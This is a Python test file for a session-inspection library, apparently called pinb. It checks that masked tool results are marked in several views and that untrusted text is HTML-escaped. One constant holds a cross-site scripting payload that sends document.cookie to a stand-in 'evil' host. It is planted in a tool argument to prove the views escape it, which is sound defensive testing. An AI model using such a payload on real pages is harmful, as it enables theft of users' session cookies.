"""Masked tool results are marked in every view: MaskingView, the context path, the tree (and so the explorer)."""

from __future__ import annotations

from pathlib import Path

from pinb.core import CompactionSettings, Session
from pinb.core.compaction.masking import plan_masking, write_masks
from pinb.testing.generate import tool_heavy_session
from pinb.views import ContextPathView, MaskingView, TreeView

HOSTILE = '<img src=x onerror="fetch(`http://evil/`+document.cookie)">'


def _masked(tmp_path: Path) -> tuple[Session, object]:
    path = tool_heavy_session(tmp_path, turns=12, result_chars=3_000)
    session = Session.open(path)
    # An argument the model wrote is untrusted text: it travels into the placeholder.
    first = next(e for e in session.entries if e.role == "assistant")
    first.message["content"][0]["arguments"]["path"] = HOSTILE  # type: ignore[index]
    report = write_masks(
        session, plan_masking(session, CompactionSettings(keep_recent_tokens=2_000))
    )
    return session, report


def test_masking_view_leads_with_the_figures_and_lists_each_result_escaped(
    tmp_path: Path,
) -> None:
    _, report = _masked(tmp_path)
    bundle = MaskingView(report)._repr_mimebundle_()  # type: ignore[arg-type]
    html = bundle["text/html"]
    count = len(report.masked)  # type: ignore[attr-defined]
    assert f"Masked {count} old tool results" in html
    assert all(m.entry_id in html for m in report.masked)  # type: ignore[attr-defined]
    assert "<img" not in html and "&lt;img" in html  # escaped, never a fetch
    assert bundle["text/plain"].startswith(f"<MaskingView: masked {count} old tool results")


def test_the_context_path_and_the_tree_mark_masked_results(tmp_path: Path) -> None:
    session, report = _masked(tmp_path)
    masked = report.masked  # type: ignore[attr-defined]
    view = ContextPathView(session, max_rows=None)
    rows = {r.key: r for r in view.context_rows}
    for m in masked:
        row = rows[m.entry_id[:8]] if m.entry_id[:8] in rows else rows[m.entry_id]
        assert row.edit == "masked" and row.status.startswith("masked by pinb (context edit ")
    html = view.to_html()
    assert f"{len(masked)} masked by pinb" in html and "Masked by pinb:" in html
    assert "<img" not in html
    tree = TreeView(session)._repr_mimebundle_()
    # The tree's rows (the explorer draws the same cells): each masked result tagged.
    lines = tree["text/plain"].splitlines()
    tagged = [line for line in lines if "tool result" in line and " masked by " in line]
    assert len(tagged) == len(masked)
    assert all(any(m.entry_id[:8] in line for line in tagged) for m in masked)
